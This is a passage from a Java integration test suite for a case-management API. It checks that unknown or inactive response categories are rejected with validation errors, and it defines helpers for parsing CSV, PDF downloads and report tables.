        respond.put("category", "NO_SUCH_THING");
        ApiClient.Response bad = lead.post("/api/cases/" + ref + "/respond", respond);
        assertThat(bad.status()).isEqualTo(400);
        assertThat(bad.json().get("errors").get(0).get("field").asString()).isEqualTo("category");
        assertThat(bad.json().get("errors").get(0).get("message").asString()).contains("DELAY");

        assertThat(ok(admin.put("/api/categories/" + code, "{\"active\":false}", "application/json"))
                        .get("active")
                        .asBoolean())
                .isFalse();
        respond.put("category", code);
        ApiClient.Response inactive = lead.post("/api/cases/" + ref + "/respond", respond);
        assertThat(inactive.status()).isEqualTo(400);
        assertThat(inactive.json().get("errors").get(0).get("message").asString())
                .contains("no longer in use");
        assertThat(ok(lead.get("/api/cases/" + ref)).get("status").asString())
                .as("a refused response changes nothing")
                .isEqualTo("RECEIVED");

        respond.put("category", "delay");
        JsonNode answered = ok(lead.post("/api/cases/" + ref + "/respond", respond));
        assertThat(answered.get("responses").get(0).get("category").asString()).isEqualTo("DELAY");
        List<String> all = new ArrayList<>();
        ok(lead.get("/api/categories?all=true"))
                .forEach(c -> all.add(c.get("code").asString()));
        assertThat(all).contains(code);
    }

    // ---- helpers --------------------------------------------------------------------------------------------------

    private byte[] pdfBytes(String username, String path) throws Exception {
        ApiClient.Download response = as(username).download(path);
        assertThat(response.status()).isEqualTo(200);
        return response.bytes();
    }

    private static List<CSVRecord> parse(String csv) {
        try {
            return CSVFormat.RFC4180.parse(new StringReader(csv)).getRecords();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static void assertFigures(JsonNode node, Map<String, Long> counts, String percent) {
        counts.forEach(
                (field, value) -> assertThat(node.get(field).asLong()).as(field).isEqualTo(value));
        assertThat(node.get("onTimePercent").decimalValue()).isEqualByComparingTo(percent);
    }

    private static void assertRate(JsonNode node, long count, long of, String percent) {
        assertThat(node.get("count").asLong()).isEqualTo(count);
        assertThat(node.get("of").asLong()).isEqualTo(of);
        assertThat(node.get("percent").decimalValue()).isEqualByComparingTo(percent);
    }

    /** The row whose first cell is {@code key}, as text (null cells as null). */
    static List<String> row(JsonNode tables, String table, String key) {
        for (JsonNode r : tables.get(table).get("rows")) {
            if (r.get(0).asString().equals(key)) {
                List<String> cells = new ArrayList<>();
                r.forEach(c -> cells.add(c.isNull() ? null : c.asString()));
                return cells;
            }
        }
        throw new AssertionError("no row " + key + " in " + table + ": " + tables.get(table));
    }

    /** The sum of a column over every row. */
    static long column(JsonNode tables, String table, String key) {
        JsonNode t = tables.get(table);
        int index = -1;
        for (int i = 0; i < t.get("columns").size(); i++) {
            if (t.get("columns").get(i).get("key").asString().equals(key)) {
                index = i;
            }
        }
        assertThat(index).as("column " + key + " in " + table).isNotNegative();
        long sum = 0;
        for (JsonNode r : t.get("rows")) {
            sum += r.get(index).asLong();
        }
        return sum;
    }

    /** An hour before the test clock's now, as a local date and time (the receivedAt of a case logged just now). */
    private String anHourAgo() {
        return OffsetDateTime.now(clock)
                .toLocalDateTime()
                .minusHours(1)
                .withNano(0)
                .toString();
    }
}
